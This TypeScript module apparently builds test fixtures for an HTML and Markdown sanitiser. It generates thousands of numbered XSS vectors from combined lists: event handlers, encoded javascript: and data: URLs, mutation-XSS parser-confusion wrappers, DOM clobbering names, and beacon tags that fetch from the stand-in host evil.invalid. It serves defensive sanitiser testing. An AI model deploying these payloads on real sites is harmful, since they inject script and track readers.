/**
 * Hostile HTML and Markdown, made by combining short lists. `§` stands for the script that reports that it ran. Whether a vector
 * works at all is found out by putting it into a page without the sanitiser (attacks-markup.spec.ts).
 */
export const FOREIGN = 'https://evil.invalid';

const TAGS = [
  'img src=x',
  'img src=/favicon.ico',
  'svg',
  'svg><circle r=9',
  'body',
  'video src=x',
  'video><source',
  'audio src=x',
  'details open',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'marquee',
  'iframe',
  'object data=x',
  'embed src=x',
  'form',
  'a href=#',
  'p',
  'div tabindex=0 autofocus',
  'math',
  'x-custom',
  'button',
  'style',
  'link rel=stylesheet href=x',
  'table',
  'dialog open',
  'frameset',
  'svg><animate attributeName=x dur=1s',
  'p contenteditable',
];
const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbeforetoggle',
  'onwheel',
  'onscroll',
  'onbegin',
  'oncontextmenu',
  'onpaste',
  'onstart',
  'onloadstart',
  'oncanplay',
  'onresize',
  'onblur',
  'onkeydown',
  'oninput',
  'onsubmit',
  'onreset',
  'ondragstart',
  'ONERROR',
];
/** What is between a tag and its handler, and around the handler's script. */
const TAG_TEMPLATES: readonly ((tag: string, event: string, script: string) => string)[] = [
  (tag, event, script) => `<${tag} ${event}=${script}>`,
  (tag, event, script) => `<${tag} ${event}="${script}">`,
  (tag, event, script) => `<${tag} ${event}='${script}'>`,
  (tag, event, script) => `<${tag}\n${event}\t=\f${script}>`,
  (tag, event, script) => `<${tag}/${event}=${script}/>`,
  (tag, event, script) => `<${tag} title=">" ${event}=${script} alt='<'>`,
  (tag, event, script) => `<${tag} ${event}=${script}`.concat(' x="'),
  (tag, event, script) => `<<${tag} ${event}=${script}//>`,
  (tag, event, script) => `<${tag.toUpperCase()} ${event.toUpperCase()}=${script}>`,
  (tag, event, script) => `<${tag} x=1 ${event}=${script} ${event}=1>`,
];
const entities = (text: string): string => [...text].map((letter) => `&#${String(letter.codePointAt(0))};`).join('');
const hexEntities = (text: string): string =>
  [...text]
    .map((letter) => `&#x${(letter.codePointAt(0) ?? 0).toString(16).padStart(6, '0')}`)
    .join('')
    .concat(';');
/** The number is filled in afterwards: where a script is spelled in entities, its number is too. */
const SPELLED: readonly ((script: string) => string)[] = [
  (script) => script,
  (script) => entities(script),
  (script) => hexEntities(script),
  (script) => script.replace('top', '\\u0074op'),
  (script) => script.replace('top.attacked', `top['attac'+'ked']`).replaceAll(`'`, '&#39;'),
  (script) => script.replace('(', '&lpar;').replace(')', '&rpar;'),
  (script) => script.replace('(', '`').replace(')', '`'),
  (script) => `setTimeout(()=>${script})`.replace('>', '&gt;'),
];

const ADDRESSED: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a href='${address}' target=_self>x</a>`,
  (address) => `<area href="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  (address) => `<svg><a href="${address}"><rect width=9 height=9 /></a></svg>`,
  (address) => `<math><a xlink:href="${address}" href="${address}">x</a></math>`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<form><button formaction="${address}">x</button></form>`,
  (address) => `<input type=submit form=none formaction="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<img src="${address}">`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<svg><script href="${address}"></script></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}" /><text y=20>x</text></a></svg>`,
  (address) => `<svg><a><set attributeName=xlink:href to="${address}" /><text y=20>x</text></a></svg>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}"><a href=x>x</a>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<body background="${address}">`,
  (address) => `<table background="${address}"><td>x</table>`,
];
const ADDRESSES: readonly ((script: string) => string)[] = [
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => `java\tscript:${script}`,
  (script) => `java\nscript:${script}`,
  (script) => `&#106;avascript:${script}`,
  (script) => `javascript&colon;${script}`,
  (script) => `javascript&#x3a;${script}`,
  (script) => `\u0001javascript:${script}`,
  (script) => ` \u00a0javascript:${script}`,
  (script) => ` &#14; javascript:${script}`,
  (script) => `javascript://%0a${script}`,
  (script) => `javascript:%74op.attacked${script.slice('top.attacked'.length)}`,
  (script) => `data:text/html,<script>${script}</script>`.replaceAll('<', '&lt;'),
  (script) => `data:text/html;charset=utf-7,+ADw-script+AD4-${script}`,
  (script) =>
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`
      .replaceAll('<', '&lt;')
      .replaceAll(`'`, '&#39;'),
  (script) => `data:text/javascript,${script}`,
  (script) => `vbscript:${script}`,
  (script) => `feed:javascript:${script}`,
  (script) => `blob:javascript:${script}`,
];

/** What parsers read in two ways: a sanitiser that serialises what it has parsed must not make a script of it. */
const CONTAINERS: readonly ((inside: string) => string)[] = [
  (inside) => `<math><mtext><table><mglyph><style><!--</style>${inside}`,
  (inside) => `<math><mtext><table><mglyph><style><math>${inside}`,
  (inside) => `<form><math><mtext></form><form><mglyph><style></math>${inside}`,
  (inside) => `<svg></p><style><a id="</style>${inside}">`,
  (inside) => `<svg><style><!--</style>${inside}--></style></svg>`,
  (inside) => `<svg><foreignObject><p><style></p></style>${inside}</foreignObject></svg>`,
  (inside) => `<svg><desc><title><style><!--</style>${inside}`,
  (inside) => `<math><annotation-xml encoding="text/html"><style>${inside}</style></annotation-xml></math>`,
  (inside) => `<math><mi><table><mglyph><textarea><!--</textarea>${inside}`,
  (inside) => `<noscript><p title="</noscript>${inside}">`,
  (inside) => `<template>${inside}</template>`,
  (inside) => `<template shadowrootmode=open>${inside}</template>`,
  (inside) => `<xmp><p title="</xmp>${inside}">`,
  (inside) => `<noembed><p title="</noembed>${inside}">`,
  (inside) => `<listing>&lt;/listing&gt;${inside}</listing>`,
  (inside) => `<title>&lt;/title&gt;</title>${inside}`,
  (inside) => `<textarea><p title="</textarea>${inside}">`,
  (inside) => `<!--><p>-->${inside}`,
  (inside) => `<!-- --!>${inside}-->`,
  (inside) => `<![CDATA[><p>${inside}]]>`,
  (inside) => `<svg><![CDATA[><p>]]>${inside}</svg>`,
  (inside) => `<?xml version="1.0"?><x>${inside}`,
  (inside) => `<select><template>${inside}</template></select><option>${inside}`,
  (inside) => `<select><style></select>${inside}</style>`,
  (inside) => `<table><td><a><table><a>${inside}`,
  (inside) => `<iframe srcdoc="${inside.replaceAll('"', '&quot;')}"></iframe>`,
  (inside) => `<iframe><p title="</iframe>${inside}">`,
  (inside) => `<noframes><p title="</noframes>${inside}">`,
  (inside) => `<plaintext>${inside}`,
  (inside) => `<object><param name=x>${inside}</object>`,
  (inside) => `<p id="x\u0000y">\u0000${inside}`,
  (inside) => `${'<div>'.repeat(520)}<svg><style><a title="</style>${inside}">`,
];
const INSIDE: readonly string[] = [
  '<img src=x onerror=§>',
  '<script>§</script>',
  '<svg onload=§>',
  '<svg><script>§</script></svg>',
  '<a href=javascript:§>x</a>',
  '<iframe src=javascript:§></iframe>',
  '<details open ontoggle=§>x</details>',
  '<input autofocus onfocus=§>',
  '<video><source onerror=§></video>',
  '<style>@import url(https://evil.invalid/%.css)</style>',
  '<scr<script>ipt>§</scr</script>ipt>',
  '<SCRIPT\n>§</SCRIPT\n>',
  '<script/x>§</script>',
  '<script>/*</script>*/§</script>',
];

/** What would fetch something elsewhere without a script: the other server learns who reads this, and when. */
const FETCHING: readonly string[] = [
  '<img src=¤>',
  '<img srcset="¤ 1x, ¤ 2x">',
  '<img src=/favicon.ico srcset=¤ sizes=1px>',
  '<picture><source srcset=¤><img></picture>',
  '<video poster=¤></video>',
  '<video src=¤></video>',
  '<audio src=¤ autoplay></audio>',
  '<video><track default src=¤></video>',
  '<input type=image src=¤>',
  '<link rel=stylesheet href=¤>',
  '<link rel=preload as=script href=¤>',
  '<link rel=prefetch href=¤>',
  '<link rel=dns-prefetch href=¤>',
  '<style>body{background:url(¤)}</style>',
  '<style>@import "¤"</style>',
  '<p style="background:url(¤)">x</p>',
  '<p style="background:\\75rl(¤)">x</p>',
  '<p style="list-style-image:url(¤);display:list-item">x</p>',
  '<p style="cursor:url(¤),auto">x</p>',
  '<table background=¤><td>x</table>',
  '<td background=¤>',
  '<body background=¤>',
  '<iframe src=¤></iframe>',
  '<object data=¤></object>',
  '<embed src=¤>',
  '<svg><image href=¤ width=9 height=9 /></svg>',
  '<svg><image xlink:href=¤ width=9 height=9 /></svg>',
  '<svg><use href=¤#x /></svg>',
  '<svg><style>@import url(¤);</style></svg>',
  '<svg><rect fill="url(¤#x)" width=9 height=9 /></svg>',
  '<svg><feImage href=¤ /></svg>',
  '<base href=¤><img src=x>',
  '<meta http-equiv=refresh content="0;url=¤">',
  '<a href=/about ping=¤>x</a>',
  '<img src=//evil.invalid/%>',
  '<img src="/\\evil.invalid/%">',
  '<img src=" ¤">',
  '<img src=HTTPS:evil.invalid/%>',
  '<img src="\\\\evil.invalid\\%">',
  '<img lowsrc=¤ dynsrc=¤>',
  '<script src=¤></script>',
  '<script type=module>import "¤"</script>',
  '<form action=¤><input name=q autofocus></form>',
  '<math href=¤>x</math>',
  '<q cite=¤>x</q>',
  '<html manifest=¤>',
];

/** Names that hide properties of the document, or of our own code, from the page. */
const CLOBBERING: readonly string[] = [
  'getElementById',
  'querySelector',
  'body',
  'head',
  'cookie',
  'location',
  'forms',
  'attributes',
  'parentNode',
  'ownerDocument',
  'nodeName',
  'trustedTypes',
  '__groundwork',
  'localStorage',
  'fetch',
  'top',
  'constructor',
  '__proto__',
].flatMap((name) => [
  `<a id=${name} name=${name} href=/about>x</a>`,
  `<img name=${name} id=${name} src=/favicon.ico>`,
  `<form id=${name}><input name=attributes><input name=${name}></form>`,
]);

/** Markdown that makes links and images, and HTML in places of its own. */
const MARKDOWN: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x][1]\n\n[1]: ${address}`,
  (address) => `[![x](${address})](${address})`,
  (address) => `[x](/about "onclick=§")[y](${address} 'title" onmouseover="§')`,
  (address) => `| a |\n|---|\n| [x](${address}) |`,
  (address) => `> 1. [x](${address})`,
];
const AROUND: readonly ((html: string) => string)[] = [
  (html) => `**${html}**`,
  (html) => `> ${html}`,
  (html) => `- ${html}`,
  (html) => `| a |\n|---|\n| ${html} |`,
  (html) => `[${html}](/about)`,
  (html) => `![${html}](x)`,
  (html) => `\`\`\`${html}\ncode\n\`\`\`\n${html}`,
  (html) => `# ${html}`,
  (html) => `\`${html}`,
  (html) => `\\${html}`,
];

const cross = <A, B, R>(some: readonly A[], others: readonly B[], make: (one: A, other: B, place: number) => R): R[] =>
  some.flatMap((one, row) => others.map((other, column) => make(one, other, row * others.length + column)));
const turn = <T>(list: readonly T[], place: number): T => list[place % list.length] as T;

/** A vector with the number under which it reports itself. */
export interface Vector {
  readonly number: number;
  readonly text: string;
}

type Unnumbered = (script: string, number: number) => string;
const template =
  (text: string): Unnumbered =>
  (script, number) =>
    text
      .replaceAll('§', script)
      .replaceAll('¤', `${FOREIGN}/${String(number)}`)
      .replaceAll('/%', `/${String(number)}`);

const html: readonly Unnumbered[] = [
  ...cross(
    TAGS,
    EVENTS,
    (tag, event, place): Unnumbered =>
      (script) =>
        turn(TAG_TEMPLATES, place + Math.floor(place / EVENTS.length))(
          tag,
          event,
          turn(SPELLED, Math.floor(place / 3))(script),
        ),
  ),
  ...cross(
    ADDRESSED,
    ADDRESSES,
    (element, address): Unnumbered =>
      (script) =>
        element(address(script)),
  ),
  ...cross(CONTAINERS, INSIDE, (container, inside) => template(container(inside))),
  ...FETCHING.map(template),
  ...CLOBBERING.map(template),
];
const markdown: readonly Unnumbered[] = [
  ...cross(
    MARKDOWN,
    ADDRESSES,
    (written, address): Unnumbered =>
      (script, number) =>
        template(written(address(script)))(script, number),
  ),
  ...cross(AROUND, INSIDE, (around, inside) => template(around(inside))),
];

/** Many containers swallow what comes after them, so that each would need a page of its own: of these the dashboard shows every fifth. */
const CONTAINED = {
  from: TAGS.length * EVENTS.length + ADDRESSED.length * ADDRESSES.length,
  count: CONTAINERS.length * INSIDE.length,
};
const isSpared = (number: number): boolean =>
  number >= CONTAINED.from && number < CONTAINED.from + CONTAINED.count && (number - CONTAINED.from) % 5 !== 0;

const numbered = (vectors: readonly Unnumbered[]): readonly Vector[] =>
  vectors.map((vector, number) => ({ number, text: vector(`top.attacked(${String(number)})`, number) }));

export const htmlVectors: readonly Vector[] = numbered(html);
/** Those that are written into the page of the dashboard. */
export const pageVectors: readonly Vector[] = htmlVectors.filter(({ number }) => !isSpared(number));
/** The same HTML, and Markdown. */
export const markdownVectors: readonly Vector[] = numbered([...html, ...markdown]);
